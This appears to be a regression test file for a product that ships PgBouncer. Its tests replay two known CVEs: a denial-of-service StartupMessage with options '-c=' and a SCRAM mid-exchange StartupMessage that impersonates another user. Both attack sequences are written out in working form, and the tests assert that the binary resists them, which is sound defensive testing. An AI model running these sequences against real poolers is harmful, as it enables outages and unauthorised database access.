"""Known attacks on PgBouncer, run against the binary the image ships (pgbouncer.advisories lists them).

Only the shipped binary: Debian 12's 1.18 is affected by CVE-2026-107350 and never runs on AWS.
Both tests fail on PgBouncer 1.24.1 (Debian 13's own package, which the image shipped before 1.26.1):
``LIFEGUARD_PGBOUNCER=/path/to/1.24.1/pgbouncer pytest tests/pgbouncer/test_attacks.py`` shows it.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import psycopg
import pytest

from lifeguard.bench.cpu import process_cpu_ns
from lifeguard.stack.system import find_pgbouncer
from tests.pgbouncer.support import MakeRoles, StartMultiUser, pooled_connect
from tests.pgbouncer.wire import (
    AUTH_OK,
    AUTH_SASL,
    AUTH_SASL_CONTINUE,
    ScramClient,
    WireError,
    message,
    read_message,
    startup_packet,
    tls_connect,
)
from tests.support import AppDatabase, RunningPooler

StartPooler = Callable[..., RunningPooler]

CPU_WINDOW_S = 2.0
# An idle PgBouncer uses next to no CPU; a spinning one uses the whole window.
MAX_CPU_SHARE = 0.25


@pytest.fixture(scope="session")
def pgbouncer_binary() -> Path:
    """The shipped binary (or ``$LIFEGUARD_PGBOUNCER``): not parametrised over Debian 12's 1.18."""
    return find_pgbouncer()


def test_an_empty_option_name_in_startup_options_does_not_stop_the_pooler(start_pooler: StartPooler) -> None:
    """CVE-2026-107349: one unauthenticated StartupMessage over TLS whose ``options`` is ``-c=``.

    On 1.20.0-1.26.0, with ``ignore_startup_parameters`` non-empty and without ``options`` (as we
    render it), PgBouncer loops on one core and serves no one until killed.
    """
    pooler: RunningPooler = start_pooler()
    assert "options" not in pooler.process.settings.ignore_startup_parameters  # the vulnerable shape
    pid = pooler.process.pid()
    assert pid is not None
    attacker = tls_connect(pooler.port)
    try:
        attacker.sendall(startup_packet({"user": pooler.db.user, "database": pooler.db.dbname, "options": "-c="}))
        time.sleep(0.2)
        started = time.monotonic()
        with psycopg.connect(pooler.url(connect_timeout=5), autocommit=True) as conn:
            assert conn.execute("select 1").fetchone() == (1,)
        login_s = time.monotonic() - started
        cpu_before = process_cpu_ns(pid)
        time.sleep(CPU_WINDOW_S)
        cpu_share = (process_cpu_ns(pid) - cpu_before) / 1e9 / CPU_WINDOW_S
    finally:
        attacker.close()
    assert login_s < 5
    assert cpu_share < MAX_CPU_SHARE, f"PgBouncer used {cpu_share:.0%} of a core while idle after the packet"


def _impersonate(port: int, attacker: str, attacker_password: str, victim: str, dbname: str) -> str:
    """The CVE-2026-107350 sequence; what the pooler answered last (``logged in as X`` if it let us in)."""
    sock = tls_connect(port)
    try:
        # SCRAM as the attacker, whose password we know, to a database that does not exist...
        sock.sendall(startup_packet({"user": attacker, "database": "lifeguard_no_such_database"}))
        first = read_message(sock)
        if first.auth_code != AUTH_SASL:
            return f"no SASL offer: {first.error_text()}"
        scram = ScramClient(attacker_password)
        sock.sendall(scram.first())
        server_first = read_message(sock)
        if server_first.auth_code != AUTH_SASL_CONTINUE:
            return f"no SCRAM challenge: {server_first.error_text()}"
        # ...then, mid-exchange, a second StartupMessage naming the victim and a real database,
        # and the attacker's own proof.
        sock.sendall(startup_packet({"user": victim, "database": dbname}))
        sock.sendall(scram.final(server_first.payload[4:].decode()))
        authenticated = False
        while True:
            reply = read_message(sock)
            if reply.kind == b"E":
                return f"refused: {reply.error_text()}"
            authenticated = authenticated or (reply.kind == b"R" and reply.auth_code == AUTH_OK)
            if reply.kind == b"Z" and authenticated:
                sock.sendall(message(b"Q", b"select current_user\0"))
            if reply.kind == b"D":  # DataRow: int16 column count, int32 length, the value
                return f"logged in as {reply.payload[6:].decode()}"
    except (WireError, OSError) as exc:
        return f"closed: {exc}"
    finally:
        sock.close()


def test_a_second_startup_message_during_scram_does_not_log_in_as_another_user(
    make_roles: MakeRoles, multi_user_pooler: StartMultiUser, app_db: AppDatabase,
) -> None:
    """CVE-2026-107350: knowing one auth_file user's password (ours holds the application role and
    the console's stats user), log in as another SCRAM user of that auth_file."""
    (attacker, attacker_password), = make_roles({"attacker": "an0ther user's p@ss"}).items()
    # As shipped: the application role's verifier, and a plain password for the other user.
    process = multi_user_pooler({app_db.user: app_db.verifier, attacker: attacker_password})
    port = process.settings.listen_port
    # The attacker's own login works (the refusal below is not a broken setup), and the victim's
    # pool holds a logged-in server connection, as a pooler in service does: the impersonated
    # client is handed that one, with no server login of its own.
    with pooled_connect(process, attacker, attacker_password, app_db.dbname) as conn:
        assert conn.execute("select current_user").fetchone() == (attacker,)
    with pooled_connect(process, app_db.user, app_db.password, app_db.dbname) as conn:
        assert conn.execute("select current_user").fetchone() == (app_db.user,)
    outcome = _impersonate(port, attacker, attacker_password, app_db.user, app_db.dbname)
    assert not outcome.startswith("logged in"), outcome
    # And the pooler still serves its real users.
    with pooled_connect(process, app_db.user, app_db.password, app_db.dbname) as conn:
        assert conn.execute("select current_user").fetchone() == (app_db.user,)
